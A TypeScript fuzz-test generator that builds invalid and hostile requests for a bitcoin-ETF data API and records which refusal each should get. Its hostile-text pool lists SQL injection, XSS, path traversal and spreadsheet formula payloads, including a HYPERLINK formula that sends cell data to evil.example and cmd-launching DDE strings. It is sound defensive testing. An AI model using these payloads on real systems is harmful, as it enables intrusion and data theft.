// Generators of hostile requests for every write endpoint. Each request is built to be refused: it
// carries at least one fault, and the generator knows which field (JSON pointer) the refusal must name.
// Valid rows ride along in the same batches, so a partial write would show in the storage checksum.
import fc from "fast-check";
import { addDays, isIsoDate, todayUtc } from "../../../shared/dates.ts";
import { MAX_SOURCE_LENGTH } from "../../../shared/schemas.ts";

/** The reference data the requests are built against (created by the test's setup). */
export interface Fixture {
  /** BTC fund on XNAS, listed 2024-01-11. */
  fund: string;
  /** A second BTC fund, the other side of transfers. */
  peer: string;
  /** An ETH fund: transfers to it from a BTC fund are refused. */
  ethFund: string;
  /** A BTC fund delisted on `delistedOn`. */
  delisted: string;
  delistedOn: string;
  /** Trading days of `fund` (XNAS) after its listing. */
  tradingDays: string[];
  /** XNAS closures (weekends and holidays) after the listing. */
  closedDays: string[];
}

export interface Case {
  /** The fault injected, for the closing count. */
  kind: string;
  method: "POST" | "PUT";
  path: string;
  /** The exact text sent. */
  body: string;
  /** Content-Type to send; null sends none. */
  contentType: string | null;
  headers: Record<string, string>;
  /** Statuses that are a correct refusal. */
  statuses: number[];
  /** Pointers (or prefixes of pointers) the 422 answer must name. */
  pointers: string[];
  /** Field names a pointer may end in although the body lacks them (missing fields). */
  fields: readonly string[];
  /** Writes as admin (token endpoints) instead of a provider token. */
  admin?: boolean;
}

// ---------------------------------------------------------------------------------------------------
// Raw JSON: numbers JSON.stringify cannot write (1e400, -0) are spliced into the text afterwards.

class Raw {
  readonly text: string;
  constructor(text: string) {
    this.text = text;
  }
}
const raw = (text: string) => new Raw(text);

function serialise(value: unknown): string {
  const splices: string[] = [];
  const text = JSON.stringify(value, (_key, item) => {
    if (item instanceof Raw) {
      splices.push(item.text);
      return `@@RAW${splices.length - 1}@@`;
    }
    return item;
  });
  return text.replace(/"@@RAW(\d+)@@"/g, (_match, index: string) => splices[Number(index)] ?? "");
}

/** Sets a property even when its name is __proto__, so that it is serialised as a plain key. */
function withKey(row: Record<string, unknown>, key: string, value: unknown): Record<string, unknown> {
  const copy = { ...row };
  Object.defineProperty(copy, key, { value, enumerable: true, configurable: true, writable: true });
  return copy;
}

const escapePointer = (key: string) => key.replaceAll("~", "~0").replaceAll("/", "~1");

// ---------------------------------------------------------------------------------------------------
// Pools of bad values.

/** Values of the wrong JSON type for a string field. */
const NOT_STRINGS: unknown[] = [null, true, false, 0, -1, 3.5, [], {}, ["IBIT"], { $ne: null }, raw("1e400")];
/** Values of the wrong JSON type for a decimal (string or number) field. */
const NOT_DECIMALS: unknown[] = [
  null,
  true,
  false,
  [],
  {},
  ["1"],
  { value: "1" },
  raw("1e400"),
  raw("-1e400"),
];

/** Injection-, formula-, markup- and unicode-shaped text: refused wherever a code, date or number goes. */
export const HOSTILE_TEXT: string[] = [
  "' OR '1'='1",
  "IBIT'; DROP TABLE flows; --",
  "1; DELETE FROM revisions WHERE 1=1",
  '" UNION SELECT token_hash FROM api_tokens --',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "\u202eTIBI",
  "\u200fעברית",
  "العربية",
  "🚀💥",
  "e\u0301",
  "\u0000",
  "A\u0000B",
  "\ud800",
  "\udfff",
  "a\ud83d",
  "\u0024{7*7}",
  "{{7*7}}",
  "../../etc/passwd",
  "%00",
  "\\",
  '"',
  "null",
  "undefined",
  "NaN",
  "Infinity",
  "1e309",
  "",
  " ",
  "\t",
  "\u00a0",
  "\ufeff",
  "x".repeat(300),
  "😀".repeat(200),
  "Z".repeat(70_000),
];

const BAD_DATES: unknown[] = [
  "0000-00-00",
  "2023-02-29",
  "2024-02-30",
  "2024-13-01",
  "2024-00-10",
  "2024-04-31",
  "2024-1-5",
  "24-01-11",
  "2024/01/11",
  "20240111",
  "2024-01-11T00:00:00Z",
  " 2024-01-11",
  "2024-01-11 ",
  "２０２４-01-11",
  "9999-12-31",
  "0100-01-01",
  "1970-01-01",
  "2000-12-31",
  "2036-01-01",
  20240111,
  1704931200000,
  ...HOSTILE_TEXT,
  ...NOT_STRINGS,
];

const BAD_DECIMAL_TEXT: unknown[] = [
  "1e5",
  "1E5",
  "0x10",
  "1,000.00",
  "1 000",
  // Stray spaces: never part of an amount, wherever they are.
  " 5.00",
  "5.00 ",
  "5 .00",
  "  12.5  ",
  "\t5",
  "١٢٣",
  "１２３",
  "--1",
  "+-1",
  ".5",
  "5.",
  "1.2.3",
  "∞",
  "9".repeat(65),
  raw("1e-9"),
  raw("1e-7"),
  ...HOSTILE_TEXT,
  ...NOT_DECIMALS,
];
const BAD_USD: unknown[] = [
  ...BAD_DECIMAL_TEXT,
  "10000000000000.01",
  "-10000000000000.01",
  "10000000000001",
  raw("10000000000001"),
  raw("1e21"),
  raw("1e300"),
  "0.001",
  raw("0.001"),
  "9".repeat(64),
];
/** Closes are positive, at most 10^13, at 8 decimals. */
const BAD_PRICE: unknown[] = [
  ...BAD_DECIMAL_TEXT,
  "10000000000000.00000001",
  "10000000000001",
  "-10000000000000.01",
  raw("1e21"),
  raw("1e300"),
];
/** Coin amounts at BTC's 8 decimals. */
const BAD_BTC_UNITS: unknown[] = [
  ...BAD_DECIMAL_TEXT,
  "0.000000001",
  raw("1e-9"),
  "1000000000000.00000001",
  raw("1e15"),
];

/** Free text (names, notes, sources) that must be refused: empty, too long, control characters, broken UTF-16. */
const badText = (max: number): unknown[] => [
  "",
  " ",
  "\t\n",
  "a\u0000b",
  "line\nbreak",
  "carriage\rreturn",
  "\u001b[31mred",
  "\u007f",
  "x".repeat(max + 1),
  ` ${"y".repeat(max + 1)} `,
  "\ud800",
  "ok\udc00",
  "\udbff\ud800",
  ...NOT_STRINGS,
];

/** Random strings that are not real dates, numbers, or free text of the right shape. */
const anyString = fc.string({ unit: "binary", maxLength: 24 });
const randomNonDate = anyString.filter((text) => !isIsoDate(text));
const randomNonDecimal = anyString.filter((text) => !/^[+-]?\d+(\.\d+)?$/.test(text));
const randomBadText = fc
  .tuple(
    anyString,
    fc.constantFrom("\u0000", "\u0007", "\n", "\ud800", "\udc00", "\u001f", "\u007f", "\u0085", "\u009b"),
    anyString,
  )
  .map(([before, bad, after]) => `${before}x${bad}x${after}`);

// ---------------------------------------------------------------------------------------------------
// Faults: what a fault does to one row (or body) and where the refusal must point.

interface Fault {
  kind: string;
  /** Pointer suffix relative to the row: "/date", or "" for the row itself. */
  at: string;
  /** Reference faults are only checked once the row's schema is right. */
  reference?: boolean;
  apply: (row: Record<string, unknown>) => unknown;
}

const setTo = (field: string, kind: string, values: fc.Arbitrary<unknown>, reference = false) =>
  values.map(
    (value): Fault => ({
      kind: `${kind}`,
      at: `/${field}`,
      reference,
      apply: (row) => withKey(row, field, value),
    }),
  );
const setFrom = (field: string, kind: string, values: unknown[], reference = false) =>
  setTo(field, kind, fc.constantFrom(...values), reference);

const dropField = (field: string): fc.Arbitrary<Fault> =>
  fc.constant({
    kind: "missing field",
    at: `/${field}`,
    apply: (row) => {
      const { [field]: _dropped, ...rest } = row;
      return rest;
    },
  });

const EXTRA_KEYS = [
  "extra",
  "__proto__",
  "constructor",
  "id",
  "recorded_at",
  "request_id",
  "token_hash",
  "delisted_on",
  "admin",
  '=HYPERLINK("x")',
  "<script>",
  "a/b~c",
  "",
  "Fund",
  "date ",
  "ticker",
  "updated_at",
];
const extraField = fc
  .tuple(fc.constantFrom(...EXTRA_KEYS), fc.constantFrom<unknown>(1, "x", null, { nested: true }, ["a"]))
  .map(
    ([key, value]): Fault => ({
      kind: "extra field",
      at: `/${escapePointer(key)}`,
      apply: (row) => withKey(row, key, value),
    }),
  );

const notAnObject = fc
  .constantFrom<unknown>(null, 5, "row", true, [], [{}], raw("1e400"))
  .map((value): Fault => ({ kind: "row not an object", at: "", apply: () => value }));

// ---------------------------------------------------------------------------------------------------
// Valid rows, with boundary values that are legal: every one carries its own source, so keys never repeat.

let sourceSerial = 0;
function nextSource(): string {
  sourceSerial += 1;
  return `fz-${sourceSerial}`;
}

const VALID_USD: unknown[] = [
  "10000000000000.00",
  "-10000000000000.00",
  raw("-0"),
  0,
  "0.10",
  "+5",
  123.45,
  -95.1,
  raw("1e3"),
  "1.500",
];

function flowRow(fixture: Fixture) {
  return fc
    .record({ date: fc.constantFrom(...fixture.tradingDays), usd: fc.constantFrom(...VALID_USD) })
    .map(({ date, usd }) => ({ fund: fixture.fund, date, net_flow_usd: usd, source: nextSource() }));
}
function priceRow(fixture: Fixture) {
  return fc
    .record({
      date: fc.constantFrom(...fixture.tradingDays, "2024-02-29"),
      close: fc.constantFrom<unknown>("42000.12345678", 0.00000001, "10000000000000", raw("65000"), "1"),
    })
    .map(({ date, close }) => ({ asset: "BTC", date, close_usd: close, source: nextSource() }));
}
function holdingRow(fixture: Fixture) {
  return fc
    .record({
      date: fc.constantFrom(...fixture.tradingDays, "2024-02-29", "2023-12-31"),
      units: fc.constantFrom<unknown>("0", raw("-0"), "1000000000000", "0.00000001", 250000.5),
    })
    .map(({ date, units }) => ({ fund: fixture.fund, date, units, source: nextSource() }));
}
function eventRow(fixture: Fixture) {
  return fc.oneof(
    fc.constantFrom(...fixture.tradingDays).map((date) => ({
      type: "transfer",
      date,
      from_fund: fixture.fund,
      to_fund: fixture.peer,
      units: "1.5",
      note: "<b>spin-off</b> =1+1",
      source: nextSource(),
    })),
    fc.constantFrom(...fixture.tradingDays).map((date) => ({
      type: "delisting",
      date,
      fund: fixture.fund,
      source: nextSource(),
    })),
  );
}

// ---------------------------------------------------------------------------------------------------
// Faults per endpoint.

function tickerFaults(field: string, fixture: Fixture): fc.Arbitrary<Fault> {
  const known = new Set([fixture.fund, fixture.peer, fixture.ethFund, fixture.delisted]);
  return fc.oneof(
    setFrom(field, "ticker: wrong type or shape", [
      ...HOSTILE_TEXT,
      ...NOT_STRINGS,
      fixture.fund.toLowerCase(),
    ]),
    setTo(
      field,
      "ticker: random string",
      anyString.filter((text) => !known.has(text)),
    ),
    setFrom(field, "ticker: unknown fund", ["ZZZZ", "NOSUCH.X", "A1", `${fixture.fund}X`], true),
  );
}

function dateFaults(field: string): fc.Arbitrary<Fault> {
  return fc.oneof(
    setFrom(field, "date: malformed or impossible", BAD_DATES),
    setTo(field, "date: random string", randomNonDate),
    setFrom(field, "date: far future", [addDays(todayUtc(), 2), addDays(todayUtc(), 400)]),
  );
}

const sourceFaults = fc.oneof(
  setFrom("source", "text: empty, long, control or unpaired surrogate", badText(MAX_SOURCE_LENGTH)),
  setTo("source", "text: random control characters", randomBadText),
);

function flowFaults(fixture: Fixture): fc.Arbitrary<Fault> {
  return fc.oneof(
    tickerFaults("fund", fixture),
    dateFaults("date"),
    setFrom("date", "date: before listing", ["2024-01-10", "2023-06-01", "2001-01-02"], true),
    setFrom("date", "date: exchange closed", fixture.closedDays, true),
    setFrom("net_flow_usd", "amount: malformed, out of range or too precise", BAD_USD),
    setTo("net_flow_usd", "amount: random string", randomNonDecimal),
    setFrom("units", "units: malformed or too precise", BAD_BTC_UNITS),
    setFrom("status", "enum: unknown value", [
      "FINAL",
      "final ",
      "Final",
      "estimated",
      ...HOSTILE_TEXT,
      ...NOT_STRINGS,
    ]),
    sourceFaults,
    dropField("fund"),
    dropField("date"),
    dropField("net_flow_usd"),
    extraField,
    notAnObject,
  );
}

/** A flow of the delisted fund after its delisting, and flows whose units and amount disagree in sign. */
function flowRowFaults(fixture: Fixture): fc.Arbitrary<{ row: unknown; fault: Fault }> {
  const delisted = fc
    .constantFrom(...fixture.tradingDays.filter((day) => day > fixture.delistedOn))
    .map((date) => ({
      row: { fund: fixture.delisted, date, net_flow_usd: "1.00", source: nextSource() },
      fault: {
        kind: "date: after delisting",
        at: "/date",
        reference: true,
        apply: (row: Record<string, unknown>) => row,
      },
    }));
  const sign = fc.constantFrom(...fixture.tradingDays).map((date) => ({
    row: { fund: fixture.fund, date, net_flow_usd: "-100.00", units: "0.5", source: nextSource() },
    fault: {
      kind: "units: sign disagrees",
      at: "/units",
      reference: true,
      apply: (row: Record<string, unknown>) => row,
    },
  }));
  return fc.oneof(delisted, sign);
}

const priceFaults = fc.oneof(
  setFrom("asset", "asset: wrong type or shape", [
    ...HOSTILE_TEXT,
    ...NOT_STRINGS,
    "btc",
    "B",
    "BTCBTCBTCBTC",
  ]),
  setFrom("asset", "asset: unknown", ["XYZ", "DOGE", "USD"], true),
  dateFaults("date"),
  setFrom(
    "date",
    "date: outside the calendars",
    ["0100-01-01", "1970-01-01", "2000-12-31", "1999-06-30"],
    true,
  ),
  setFrom(
    "close_usd",
    "price: zero, negative or too precise",
    ["0", "0.00", "-0", raw("-0"), "-1", "0.000000001", "10000000000000.00000001"],
    true,
  ),
  setFrom("close_usd", "amount: malformed, out of range or too precise", BAD_PRICE),
  sourceFaults,
  dropField("asset"),
  dropField("close_usd"),
  extraField,
  notAnObject,
);

function holdingFaults(fixture: Fixture): fc.Arbitrary<Fault> {
  return fc.oneof(
    tickerFaults("fund", fixture),
    dateFaults("date"),
    setFrom("units", "units: negative", ["-0.00000001", "-1", raw("-250000")], true),
    setFrom("units", "units: malformed or too precise", BAD_BTC_UNITS),
    sourceFaults,
    dropField("units"),
    dropField("date"),
    extraField,
    notAnObject,
  );
}

function eventFaults(fixture: Fixture): fc.Arbitrary<Fault> {
  const transferOnly = (fault: fc.Arbitrary<Fault>) =>
    fault.map((inner) => ({
      ...inner,
      apply: (row: Record<string, unknown>) =>
        inner.apply({
          ...row,
          type: "transfer",
          from_fund: fixture.fund,
          to_fund: fixture.peer,
          units: "1.5",
          fund: undefined,
        }),
    }));
  const delistingOnly = (fault: fc.Arbitrary<Fault>) =>
    fault.map((inner) => ({
      ...inner,
      apply: (row: Record<string, unknown>) =>
        inner.apply({ type: "delisting", date: row.date, fund: fixture.fund, source: row.source }),
    }));
  return fc.oneof(
    setFrom("type", "enum: unknown value", ["merger", "Transfer", "", "delisting ", ...NOT_STRINGS]),
    dropField("type"),
    dateFaults("date"),
    delistingOnly(tickerFaults("fund", fixture)),
    delistingOnly(setFrom("date", "date: before listing", ["2024-01-10", "2020-03-02"], true)),
    transferOnly(tickerFaults("from_fund", fixture)),
    transferOnly(tickerFaults("to_fund", fixture)),
    transferOnly(setFrom("to_fund", "transfer: same fund twice", [fixture.fund], true)),
    transferOnly(setFrom("to_fund", "transfer: another asset", [fixture.ethFund], true)),
    transferOnly(
      setFrom("units", "units: zero or negative", ["0", "-0", raw("-0"), "-1.5", raw("-2")], true),
    ),
    transferOnly(setFrom("units", "units: malformed or too precise", BAD_BTC_UNITS)),
    setFrom("note", "text: empty, long, control or unpaired surrogate", badText(2000)),
    sourceFaults,
    extraField,
    notAnObject,
  );
}

// ---------------------------------------------------------------------------------------------------
// Requests.

const FLOW_FIELDS = ["flows", "fund", "date", "net_flow_usd", "units", "status", "source"];
const PRICE_FIELDS = ["prices", "asset", "date", "close_usd", "source"];
const HOLDING_FIELDS = ["holdings", "fund", "date", "units", "source"];
const EVENT_FIELDS = ["events", "type", "date", "fund", "from_fund", "to_fund", "units", "note", "source"];
const FUND_FIELDS = [
  "name",
  "issuer",
  "asset",
  "vehicle",
  "country",
  "exchange",
  "listed_on",
  "fee_bps",
  "ticker",
];
const TOKEN_FIELDS = ["name", "scopes", "funds"];

const JSON_TYPE = "application/json";

function baseCase(
  kind: string,
  method: "POST" | "PUT",
  path: string,
  body: unknown,
  fields: readonly string[],
): Case {
  return {
    kind,
    method,
    path,
    body: typeof body === "string" ? body : serialise(body),
    contentType: JSON_TYPE,
    headers: {},
    statuses: [422],
    pointers: [],
    fields,
  };
}

interface BatchEndpoint {
  field: string;
  path: string;
  fields: readonly string[];
  valid: fc.Arbitrary<Record<string, unknown>>;
  faults: fc.Arbitrary<Fault>;
  /** Whole rows that are faulty in context (no mutation needed). */
  faultyRows?: fc.Arbitrary<{ row: unknown; fault: Fault }>;
}

/** A batch of valid rows with one to four faulty ones mixed in at random places. */
function faultyBatch(endpoint: BatchEndpoint): fc.Arbitrary<Case> {
  const faulty = fc.oneof(
    {
      weight: 6,
      arbitrary: fc
        .tuple(endpoint.valid, endpoint.faults)
        .map(([row, fault]) => ({ row: fault.apply(row), fault })),
    },
    {
      weight: endpoint.faultyRows ? 1 : 0,
      arbitrary: endpoint.faultyRows ?? fc.constant({ row: null, fault: notAnObjectFault }),
    },
  );
  const items = fc.tuple(
    fc.array(
      endpoint.valid.map((row) => ({ row, fault: null as Fault | null })),
      { maxLength: 6 },
    ),
    fc.array(faulty, { minLength: 1, maxLength: 4 }),
  );
  return items
    .chain(([valid, bad]) => {
      const all = [...valid, ...bad];
      return fc.shuffledSubarray(all, { minLength: all.length, maxLength: all.length });
    })
    .map((rows) => {
      const body = { [endpoint.field]: rows.map(({ row }) => row) };
      const faults = rows.flatMap(({ fault }, index) => (fault ? [{ fault, index }] : []));
      const kinds = faults.map(({ fault }) => fault.kind);
      const request = baseCase(kinds.join(" + "), "POST", endpoint.path, body, endpoint.fields);
      request.pointers = faults.map(({ fault, index }) => `/${endpoint.field}/${index}${fault.at}`);
      return request;
    });
}
const notAnObjectFault: Fault = { kind: "row not an object", at: "", apply: () => null };

/** The same key twice in one batch: the second is refused. */
function repeatedKey(endpoint: BatchEndpoint): fc.Arbitrary<Case> {
  return fc.tuple(endpoint.valid, fc.array(endpoint.valid, { maxLength: 3 })).map(([row, others]) => {
    const rows = [row, ...others, row];
    const request = baseCase(
      "same key twice",
      "POST",
      endpoint.path,
      { [endpoint.field]: rows },
      endpoint.fields,
    );
    request.pointers = [`/${endpoint.field}/${rows.length - 1}`];
    return request;
  });
}

const NOT_JSON = [
  "",
  "{",
  "}",
  '{"flows": [}',
  "{'flows': []}",
  "{}garbage",
  "NaN",
  "[1,]",
  '{"a":1,}',
  "\u0000",
  "undefined",
  '{"a":"\\x41"}',
  '{"a":"\\ud800"',
  "<xml/>",
  "a=1&b=2",
  "--boundary\r\n",
];
const NOT_JSON_TYPES: (string | null)[] = [
  null,
  "",
  "text/plain",
  "text/csv",
  "text/html",
  "application/xml",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=x",
  "application/octet-stream",
  "json",
  "application/jsonp",
  "application/json-patch",
  "application/vnd_x+json",
  "application/json; charset",
];
/** JSON-looking types a server may accept or refuse: sent only with bodies that must be refused anyway. */
const ODD_JSON_TYPES = [
  "APPLICATION/JSON",
  "application/json ; charset=utf-8",
  "application/problem+json",
  "application/json;charset=utf-16",
];

/** Whole-body faults that apply to any write endpoint: syntax, media type, shape, keys, size, headers. */
function bodyFaults(
  method: "POST" | "PUT",
  path: string,
  fields: readonly string[],
  validBody: fc.Arbitrary<unknown>,
  arrayField: string | null,
): fc.Arbitrary<Case>[] {
  const cases: fc.Arbitrary<Case>[] = [
    fc
      .oneof(
        fc.constantFrom(...NOT_JSON),
        anyString.filter((text) => !parses(text)),
      )
      .map((text) => ({
        ...baseCase("unparseable JSON", method, path, text, fields),
        statuses: [400],
      })),
    fc.tuple(validBody, fc.constantFrom(...NOT_JSON_TYPES)).map(([body, contentType]) => ({
      ...baseCase("not a JSON media type", method, path, body, fields),
      contentType,
      statuses: [415],
    })),
    fc.tuple(fc.constantFrom(...NOT_JSON), fc.constantFrom(...ODD_JSON_TYPES)).map(([text, contentType]) => ({
      ...baseCase("odd JSON media type", method, path, text, fields),
      contentType,
      statuses: [400, 415],
    })),
    fc.constantFrom<unknown>(null, [], 5, "flows", true, [{}], raw("1e400")).map((body) => ({
      ...baseCase("body not an object", method, path, serialise(body), fields),
      pointers: [""],
    })),
    fc.tuple(validBody, fc.constantFrom(...EXTRA_KEYS)).map(([body, key]) => ({
      ...baseCase(
        "unknown top-level field",
        method,
        path,
        withKey(body as Record<string, unknown>, key, 1),
        fields,
      ),
      pointers: [`/${escapePointer(key)}`],
    })),
    fc
      .tuple(
        validBody,
        fc.constantFrom("", " ", "a".repeat(256), "key\twith\ttabs", "two words", "key\u007f"),
      )
      .map(([body, key]) => ({
        ...baseCase("bad Idempotency-Key", method, path, body, fields),
        headers: { "idempotency-key": key },
        statuses: [400],
      })),
  ];
  if (method === "POST") {
    cases.push(
      fc
        .tuple(validBody, fc.constantFrom("yes", "1", "TRUE", "on", "", "true%00", "true&dry_run=false"))
        .map(([body, value]) => ({
          ...baseCase("dry_run not true or false", method, `${path}?dry_run=${value}`, body, fields),
          pointers: ["/query/dry_run"],
        })),
    );
  }
  if (arrayField) {
    cases.push(
      fc.constantFrom<unknown>(null, {}, "rows", 5, { 0: {} }, true).map((value) => ({
        ...baseCase("rows not an array", method, path, { [arrayField]: value }, fields),
        pointers: [`/${arrayField}`],
      })),
      fc
        .constantFrom<unknown>({}, { [arrayField.toUpperCase()]: [] }, { [`${arrayField} `]: [] })
        .map((body) => ({
          ...baseCase("rows missing", method, path, body, fields),
          pointers: [`/${arrayField}`],
        })),
    );
  }
  return cases;
}

function parses(text: string): boolean {
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
}

function batchEndpoints(fixture: Fixture): BatchEndpoint[] {
  return [
    {
      field: "flows",
      path: "/v1/flows",
      fields: FLOW_FIELDS,
      valid: flowRow(fixture),
      faults: flowFaults(fixture),
      faultyRows: flowRowFaults(fixture),
    },
    {
      field: "prices",
      path: "/v1/prices",
      fields: PRICE_FIELDS,
      valid: priceRow(fixture),
      faults: priceFaults,
    },
    {
      field: "holdings",
      path: "/v1/holdings",
      fields: HOLDING_FIELDS,
      valid: holdingRow(fixture),
      faults: holdingFaults(fixture),
    },
    {
      field: "events",
      path: "/v1/events",
      fields: EVENT_FIELDS,
      valid: eventRow(fixture),
      faults: eventFaults(fixture),
    },
  ];
}

/** Hostile requests for one batch endpoint, `count` of them, from a fixed seed. */
export function batchCases(fixture: Fixture, field: string, count: number, seed: number): Case[] {
  const endpoint = batchEndpoints(fixture).find((candidate) => candidate.field === field);
  if (!endpoint) throw new Error(`no endpoint ${field}`);
  const validBody = fc
    .array(endpoint.valid, { minLength: 1, maxLength: 3 })
    .map((rows) => ({ [field]: rows }));
  const arbitrary = fc.oneof(
    { weight: 14, arbitrary: faultyBatch(endpoint) },
    { weight: 1, arbitrary: repeatedKey(endpoint) },
    ...bodyFaults("POST", endpoint.path, endpoint.fields, validBody, field).map((arbitrary) => ({
      weight: 1,
      arbitrary,
    })),
  );
  return fc.sample(arbitrary, { numRuns: count, seed });
}

export const VALID_FUND = {
  name: "Hostile Test Bitcoin Trust",
  issuer: "Fuzz Asset Management",
  asset: "BTC",
  vehicle: "spot_etf",
  country: "US",
  exchange: "XNAS",
  listed_on: "2024-01-11",
  fee_bps: 25,
};

/** name, issuer, vehicle, exchange and fee_bps may be null: "not known" is a valid answer. */
const notNull = (values: readonly unknown[]) => values.filter((value) => value !== null);

const fundFaults: fc.Arbitrary<Fault>[] = [
  setFrom("name", "text: empty, long, control or unpaired surrogate", notNull(badText(200))),
  setTo("name", "text: random control characters", randomBadText),
  setFrom("issuer", "text: empty, long, control or unpaired surrogate", notNull(badText(100))),
  setFrom("asset", "asset: wrong type or shape", [...HOSTILE_TEXT, ...NOT_STRINGS, "btc"]),
  setFrom("asset", "asset: unknown", ["XYZ", "DOGE"], true),
  setFrom(
    "vehicle",
    "enum: unknown value",
    notNull(["etf", "SPOT_ETF", "spot_etf ", ...HOSTILE_TEXT, ...NOT_STRINGS]),
  ),
  setFrom("country", "country: not ISO 3166 alpha-2", ["USA", "us", "U1", "", "ÜS", ...NOT_STRINGS]),
  setFrom(
    "exchange",
    "exchange: not a MIC",
    notNull(["NASDAQ", "xnas", "XNA", ...HOSTILE_TEXT, ...NOT_STRINGS]),
  ),
  setFrom("exchange", "exchange: no calendar", ["XXXX", "XLON", "XETR"], true),
  setFrom(
    "listed_on",
    "date: malformed or impossible",
    BAD_DATES.filter((date) => !(typeof date === "string" && isIsoDate(date))),
  ),
  setFrom(
    "listed_on",
    "date: outside the calendars",
    ["0100-01-01", "1970-01-01", "9999-12-31", "2000-12-29", "2036-01-02"],
    true,
  ),
  setFrom("listed_on", "date: exchange closed", ["2024-01-13", "2024-01-15", "2024-07-04"], true),
  setFrom("fee_bps", "fee: out of range or not an integer", [
    -1,
    10_001,
    2.5,
    "25",
    true,
    raw("1e400"),
    raw("-0.5"),
    1e21,
  ]),
  ...["name", "issuer", "asset", "vehicle", "country", "exchange", "listed_on", "fee_bps"].map(dropField),
  extraField,
];

export function fundCases(fixture: Fixture, count: number, seed: number): Case[] {
  const fundBody = fc.constant({ ...VALID_FUND });
  const faulty = fc
    .tuple(
      fc.constantFrom(fixture.fund, "NEWFUND1", "A.B"),
      fc.uniqueArray(fc.oneof(...fundFaults), { minLength: 1, maxLength: 3, selector: (fault) => fault.at }),
    )
    .map(([ticker, faults]) => {
      const body = faults.reduce<unknown>((row, fault) => fault.apply(row as Record<string, unknown>), {
        ...VALID_FUND,
      });
      const request = baseCase(
        faults.map((fault) => fault.kind).join(" + "),
        "PUT",
        `/v1/funds/${ticker}`,
        body,
        FUND_FIELDS,
      );
      const schemaFaults = faults.filter((fault) => !fault.reference);
      // A closure can only be judged on an exchange whose calendar is known.
      const judged = faults.filter(
        (fault) =>
          fault.kind !== "date: exchange closed" || !faults.some((other) => other.at === "/exchange"),
      );
      request.pointers = (schemaFaults.length > 0 ? schemaFaults : judged).map((fault) => fault.at);
      return request;
    });
  const badTicker = fc
    .constantFrom(
      "ibit",
      "TOOLONGTICKER1",
      ".IBIT",
      "I%20B",
      "%3Cscript%3E",
      "%F0%9F%9A%80",
      "I'B",
      "%00",
      "%E2%80%AE",
    )
    .map((ticker) => ({
      ...baseCase(
        "ticker in the path: wrong shape",
        "PUT" as const,
        `/v1/funds/${ticker}`,
        { ...VALID_FUND },
        FUND_FIELDS,
      ),
      statuses: [404, 422],
      pointers: ["/path/ticker"],
    }));
  const arbitrary = fc.oneof(
    { weight: 12, arbitrary: faulty },
    { weight: 1, arbitrary: badTicker },
    ...bodyFaults("PUT", `/v1/funds/${fixture.fund}`, FUND_FIELDS, fundBody, null).map((arbitrary) => ({
      weight: 1,
      arbitrary,
    })),
  );
  return fc.sample(arbitrary, { numRuns: count, seed });
}

const tokenFaults: fc.Arbitrary<Fault>[] = [
  setFrom("name", "text: empty, long, control or unpaired surrogate", badText(100)),
  setFrom("scopes", "scopes: empty, unknown or wrong type", [
    [],
    ["admin"],
    ["flows:write", "root"],
    "flows:write",
    [5],
    null,
    [null],
    {},
    ["FLOWS:WRITE"],
  ]),
  setFrom("funds", "funds: empty, malformed or wrong type", [
    [],
    ["ibit"],
    "IBIT",
    [null],
    5,
    {},
    ["<script>"],
    ["IBIT", "' OR 1=1"],
  ]),
  dropField("name"),
  dropField("scopes"),
  extraField,
];

export function tokenCases(count: number, seed: number): Case[] {
  const tokenBody = fc.constant({ name: "fuzz", scopes: ["flows:write"], funds: null });
  const faulty = fc
    .uniqueArray(fc.oneof(...tokenFaults), { minLength: 1, maxLength: 3, selector: (fault) => fault.at })
    .map((faults) => {
      const body = faults.reduce<unknown>((row, fault) => fault.apply(row as Record<string, unknown>), {
        name: "fuzz",
        scopes: ["flows:write"],
        funds: null,
      });
      const request = baseCase(
        faults.map((fault) => fault.kind).join(" + "),
        "POST",
        "/v1/tokens",
        body,
        TOKEN_FIELDS,
      );
      request.pointers = faults.map((fault) => fault.at);
      return request;
    });
  const arbitrary = fc.oneof(
    { weight: 8, arbitrary: faulty },
    ...bodyFaults("POST", "/v1/tokens", TOKEN_FIELDS, tokenBody, null)
      .slice(0, 5)
      .map((arbitrary) => ({ weight: 1, arbitrary })),
  );
  return fc.sample(arbitrary, { numRuns: count, seed }).map((request) => ({ ...request, admin: true }));
}

/**
 * Per endpoint: an over-size body (413), an over-long batch (422 naming the array), and 100,000 unknown
 * keys, whose answer must stay small however many fields it could list.
 */
export function sizeCases(fixture: Fixture): Case[] {
  const padding = "x".repeat(5 * 1024 * 1024 + 16);
  const cases: Case[] = [];
  for (const { field, path, fields } of batchEndpoints(fixture)) {
    cases.push({
      ...baseCase("body over 5 MiB", "POST", path, { [field]: [], padding }, fields),
      statuses: [413],
    });
    const rows = Array.from({ length: 10_001 }, (_, index) => ({ index }));
    cases.push({
      ...baseCase("over 10,000 rows", "POST", path, { [field]: rows }, fields),
      pointers: [`/${field}`],
    });
  }
  cases.push({
    ...baseCase(
      "body over 5 MiB",
      "PUT",
      `/v1/funds/${fixture.fund}`,
      { ...VALID_FUND, name: padding },
      FUND_FIELDS,
    ),
    statuses: [413],
  });
  cases.push({
    ...baseCase("body over 5 MiB", "POST", "/v1/tokens", { name: padding, scopes: [] }, TOKEN_FIELDS),
    statuses: [413],
    admin: true,
  });
  const manyKeys = Object.fromEntries(Array.from({ length: 100_000 }, (_, index) => [`k${index}`, 0]));
  for (const { field, path, fields, valid } of batchEndpoints(fixture)) {
    const [row] = fc.sample(valid, { numRuns: 1, seed: 7 });
    cases.push(
      {
        ...baseCase("100,000 unknown keys", "POST", path, { [field]: [], ...manyKeys }, fields),
        pointers: ["/k0"],
      },
      {
        ...baseCase("100,000 unknown keys", "POST", path, { [field]: [{ ...row, ...manyKeys }] }, fields),
        pointers: [`/${field}/0`],
      },
    );
  }
  cases.push(
    {
      ...baseCase(
        "100,000 unknown keys",
        "PUT",
        `/v1/funds/${fixture.fund}`,
        { ...VALID_FUND, ...manyKeys },
        FUND_FIELDS,
      ),
      pointers: ["/k0"],
    },
    {
      ...baseCase(
        "100,000 unknown keys",
        "POST",
        "/v1/tokens",
        { name: "x", scopes: ["flows:write"], ...manyKeys },
        TOKEN_FIELDS,
      ),
      pointers: ["/k0"],
      admin: true,
    },
  );
  return cases;
}
